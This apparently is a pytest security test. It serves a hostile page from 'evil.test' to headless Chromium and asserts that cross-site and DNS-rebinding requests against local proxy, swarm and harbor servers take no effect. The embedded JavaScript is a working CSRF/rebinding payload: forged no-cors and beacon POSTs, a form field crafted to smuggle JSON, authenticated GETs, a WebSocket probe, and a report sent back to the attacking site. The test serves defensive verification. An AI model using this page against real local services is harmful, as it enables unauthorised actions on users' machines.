"""A real browser opens a foreign page that attacks our servers; none of its requests takes effect.

The page is opened twice: at another site, and at a name that was rebound to the server. In the
second case the browser considers page and server one origin, and the page even has the server's
key.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from tests.agent_loop.swarm.conftest import TOKEN as SWARM_TOKEN
from tests.agent_loop.swarm.conftest import StartSwarm, start_swarm  # noqa: F401
from tests.harbor_sdk.scripted_server import TOKEN as HARBOR_TOKEN
from tests.harbor_sdk.scripted_server import ScriptedTrials, serving
from tests.needs import needs
from tests.proxy.conftest import (  # noqa: F401
    ADMIN_KEY,
    StartProxy,
    checkpoint,
    proxy,
    rendering,
    start_proxy,
)

CHROMIUM = shutil.which("chromium")
pytestmark = needs(None if CHROMIUM else "chromium is not installed: apt-get install chromium")
NAME = "evil.test"
PAGE = """<!doctype html><body><script>
const {target, key, posts, gets} = ATTACK;
const found = [], body = JSON.stringify(BODY);
const attempt = async (what, run) => {
  try { found.push([what, await run()]); } catch (error) { found.push([what, "refused"]); }
};
const send = async (path, options) => {
  const answer = await fetch(target + path, options);
  return answer.type === "opaque" ? "opaque" : answer.status;
};
const image = path => new Promise(resolve => {
  const element = new Image();
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("refused");
  element.src = target + path;
});
const form = (path, enctype) => new Promise(resolve => {
  const frame = document.createElement("iframe"), element = document.createElement("form");
  frame.name = "frame" + found.length;
  document.body.append(frame, element);
  Object.assign(element, {method: "POST", action: target + path, enctype, target: frame.name});
  const field = document.createElement("input");
  Object.assign(field, {name: body.slice(0, -1) + ',"x":"', value: '"}'});
  element.append(field);
  let loads = 0;
  frame.onload = () => { if (frame.src === "") resolve("sent"); };
  element.submit();
});
const socket = path => new Promise(resolve => {
  const opened = new WebSocket(target.replace("http", "ws") + path);
  opened.onopen = () => resolve("open");
  opened.onerror = () => resolve("refused");
});
(async () => {
  for (const path of posts) {
    const plain = {method: "POST", body, headers: {"Content-Type": "text/plain"}};
    const json = {method: "POST", body, headers: {
      "Content-Type": "application/json", "Authorization": "Bearer " + key}};
    await attempt("text " + path, () => send(path, plain));
    await attempt("no-cors " + path, () => send(path, {...plain, mode: "no-cors"}));
    await attempt("bare " + path, () => send(path, {method: "POST", mode: "no-cors"}));
    await attempt("json " + path, () => send(path, json));
    await attempt("beacon " + path, () => String(navigator.sendBeacon(target + path, body)));
    await attempt("form " + path, () => form(path, "text/plain"));
  }
  for (const path of gets) {
    const headers = {"Authorization": "Bearer " + key};
    await attempt("get " + path, () => send(path, {headers}));
    await attempt("image " + path, () => image(path));
  }
  await attempt("socket", () => socket("/relay"));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


@dataclass(frozen=True)
class Target:
    url: str
    key: str
    posts: list[str]
    gets: list[str]
    body: dict[str, Any]
    unchanged: Callable[[], Awaitable[None]]
    """Raises AssertionError if a request took effect."""


@dataclass(frozen=True)
class Parts:
    """What targets are made of."""

    folder: Path
    start_proxy: StartProxy
    start_swarm: StartSwarm


@asynccontextmanager
async def proxy_target(parts: Parts) -> AsyncIterator[Target]:
    running = await parts.start_proxy(sessions={"auto_create": True}, relay={"token": "a-token"})

    async def unchanged() -> None:
        headers = {"Authorization": f"Bearer {ADMIN_KEY}"}
        async with aiohttp.ClientSession(running.url, headers=headers) as http:
            async with http.get("/sessions") as response:
                assert (await response.json())["sessions"] == []
            async with http.get("/engines") as response:
                engines = (await response.json())["engines"]
        assert len(engines) == 1

    body = {"model": "m", "messages": [{"role": "user", "content": "Hi"}], "url": "http://e.test"}
    posts = ["/mine/v1/chat/completions", "/sessions", "/engines", "/engines/pause"]
    yield Target(running.url, ADMIN_KEY, posts, ["/sessions", "/engines"], body, unchanged)


@asynccontextmanager
async def swarm_target(parts: Parts) -> AsyncIterator[Target]:
    running = await parts.start_swarm()
    before = (await running.client.status()).model_dump(exclude={"at"})

    async def unchanged() -> None:
        assert (await running.client.status()).model_dump(exclude={"at"}) == before

    posts, body = ["/v1/episodes", "/v1/stop"], {"task_id": "a", "timeout_s": 5}
    yield Target(running.url, SWARM_TOKEN, posts, ["/v1/config"], body, unchanged)


@asynccontextmanager
async def harbor_target(parts: Parts) -> AsyncIterator[Target]:
    trials = ScriptedTrials()
    async with serving(parts.folder, trials) as url:

        async def unchanged() -> None:
            assert trials.started == []

        body = {"agent": {"name": "oracle"}, "task_name": "hello"}
        runs = ["/api/v1/runs"]
        yield Target(url.rstrip("/"), HARBOR_TOKEN, runs, runs, body, unchanged)


TARGETS = {"proxy": proxy_target, "swarm": swarm_target, "harbor-server": harbor_target}


@asynccontextmanager
async def foreign_site(target: Target) -> AsyncIterator[tuple[int, asyncio.Queue[Any]]]:
    """The port of a site that serves the page, and the reports that the page sends back. All other
    requests go to the target unchanged, as after a rebinding of the site's name."""
    reports: asyncio.Queue[Any] = asyncio.Queue()

    async def page(request: web.Request) -> web.Response:
        url = target.url if request.path == "/foreign" else f"http://{request.host}"
        attack = {"target": url, "key": target.key, "posts": target.posts, "gets": target.gets}
        text = PAGE.replace("ATTACK", json.dumps(attack)).replace("BODY", json.dumps(target.body))
        return web.Response(text=text, content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        reports.put_nowait(json.loads(await request.read()))
        return web.Response()

    async def rebound(request: web.Request) -> web.Response:
        headers = {k: v for k, v in request.headers.items() if k != "Content-Length"}
        url, data = target.url + request.path_qs, await request.read()
        async with http.request(request.method, url, headers=headers, data=data) as answer:
            return web.Response(status=answer.status, body=await answer.read())

    app = web.Application()
    app.router.add_get("/foreign", page)
    app.router.add_get("/rebound", page)
    app.router.add_post("/report", report)
    app.router.add_route("*", "/{path:.*}", rebound)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    async with aiohttp.ClientSession() as http:
        yield runner.addresses[0][1], reports
    await runner.cleanup()


async def visit(url: str, folder: Path, reports: asyncio.Queue[Any]) -> list[tuple[str, Any]]:
    """What the page reported."""
    assert CHROMIUM is not None
    browser = await asyncio.create_subprocess_exec(
        *(CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        *(f"--user-data-dir={folder}", "--remote-debugging-port=0"),
        *(f"--host-resolver-rules=MAP {NAME} 127.0.0.1", url),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        async with asyncio.timeout(100):
            return [(what, result) for what, result in await reports.get()]
    finally:
        with contextlib.suppress(ProcessLookupError):
            browser.terminate()
        await browser.wait()


@pytest.mark.parametrize("name", TARGETS)
async def test_foreign_and_rebound_pages_change_and_read_nothing(
    name: str,
    tmp_path: Path,
    start_proxy: StartProxy,  # noqa: F811
    start_swarm: StartSwarm,  # noqa: F811
) -> None:
    parts = Parts(tmp_path, start_proxy, start_swarm)
    async with TARGETS[name](parts) as target, foreign_site(target) as (port, reports):
        for page in ("foreign", "rebound"):
            url = f"http://{NAME}:{port}/{page}"
            found = await visit(url, tmp_path / page, reports)
            assert len(found) == 6 * len(target.posts) + 2 * len(target.gets) + 1
            for what, result in found:
                assert result in ("refused", "opaque", "sent", "true", 401, 403, 415), what
            assert ("socket", "refused") in found
            await target.unchanged()
